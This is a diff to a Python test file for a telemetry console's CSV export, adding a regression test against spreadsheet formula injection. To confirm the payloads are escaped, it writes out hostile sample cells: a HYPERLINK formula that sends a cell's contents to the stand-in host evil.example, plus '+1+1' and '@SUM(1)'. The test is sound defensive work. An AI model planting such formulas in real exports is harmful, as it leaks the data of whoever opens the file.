@@ -8,6 +8,8 @@ Each test is a hole that was found and closed; the requests go through the whole
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import os
 import shutil
 import threading
@@ -293,4 +295,26 @@ def test_many_buckets_over_days_read_the_rollup_not_millions_of_raw_points(tmp_p
     # A shift (8 hours) is still drawn from the raw points, to the bucket.
     shift = {**params, "end": start + 8 * 3600_000, "buckets": 4000}
     assert c.get("/api/tenants/acme/trend", params=shift).json()["source"] == "points"
+    console.close()
+
+
+def test_csv_cells_from_machine_text_cannot_become_spreadsheet_formulas(tmp_path: Path) -> None:
+    # A text tag (a barcode, an operator's HMI entry) or a driver's error is whatever the machine says; a
+    # spreadsheet opening the export runs a cell that starts with = + - @ as a formula.
+    console = make_console(tmp_path, ["acme"])
+    console.accounts.create("v", "viewer", PASSWORD, tenant="acme")
+    writer = FleetWriter(tmp_path / "storage", "acme")
+    start = 1_700_000_000_000
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    writer.points("gw", "hmi", [("-order", start, hostile), ("-order", start + 1, "+1+1"), ("-order", start + 2, -5.5)])
+    writer.points("gw", "hmi", [("-order", start + 3, None)], quality="bad", error="@SUM(1)")
+    writer.close()
+    c, _ = logged_in(console, "v")
+    text = c.get("/api/tenants/acme/trend.csv", params={"series": "gw/hmi/-order", "start": start, "end": start + 10})
+    rows = list(csv.reader(io.StringIO(text.text)))[1:]
+    assert [r[0] for r in rows] == ["gw/hmi/-order"] * 4
+    assert [r[3] for r in rows] == ["'" + hostile, "'+1+1", "-5.5", ""]
+    assert rows[3][5] == "'@SUM(1)"
+    for row in rows:
+        assert not any(cell[:1] in ("=", "+", "@") for cell in row), row
     console.close()
